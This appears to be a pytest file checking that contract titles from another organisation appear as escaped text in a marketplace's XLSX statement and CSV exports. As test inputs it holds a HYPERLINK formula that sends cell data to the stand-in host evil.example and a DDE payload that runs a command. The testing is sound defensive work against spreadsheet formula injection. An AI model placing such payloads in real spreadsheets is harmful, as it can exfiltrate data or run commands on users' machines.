"""Text another organisation wrote never becomes a live formula in a statement or contract export."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl

from techmarket.accounts.services import actor_for
from techmarket.core.roles import Role
from techmarket.extensions import db
from techmarket.incentives import statement
from tests.contracts.builders import contract_data, deal, registered
from tests.factories import Factories

EVIL = '=HYPERLINK("http://evil.example/?d="&B3,"点击查看合同")'


def test_a_contract_title_written_by_the_seller_is_text_in_the_buyers_statement_xlsx(make: Factories, login) -> None:
    d = deal(make)
    contract = registered(make, d, contract_data(d, title=EVIL))
    assert contract.title == EVIL  # the seller could write it
    row = statement.save(db.session, actor_for(d.buyer), d.buyer_org, contract.registered_on.year, {})
    db.session.commit()

    resp = login(d.buyer).get(f"/statements/{row.id}.xlsx")
    assert resp.status_code == 200
    with zipfile.ZipFile(io.BytesIO(resp.data)) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the sheet
    cells = [c for r in openpyxl.load_workbook(io.BytesIO(resp.data)).active.iter_rows() for c in r]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + EVIL in [c.value for c in cells]  # shown as the text it is
    amounts = [c.value for c in cells if c.data_type == "n" and c.value == 1000000]
    assert amounts  # the technical transaction amount stays a number


def test_the_console_csv_quotes_a_title_that_starts_a_formula(make: Factories, signin) -> None:
    d = deal(make)
    contract = registered(make, d, contract_data(d, title="@SUM(1+1)*cmd|' /C calc'!A0"))
    client = signin(make.user(Role.REGISTRAR))
    resp = client.get("/admin/contracts/search/export.csv")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
    mine = next(r for r in rows if r[0] == contract.registration_number)
    assert mine[2] == "'" + contract.title
    assert mine[-1] == "1000000.00"  # amounts are numbers, not quoted
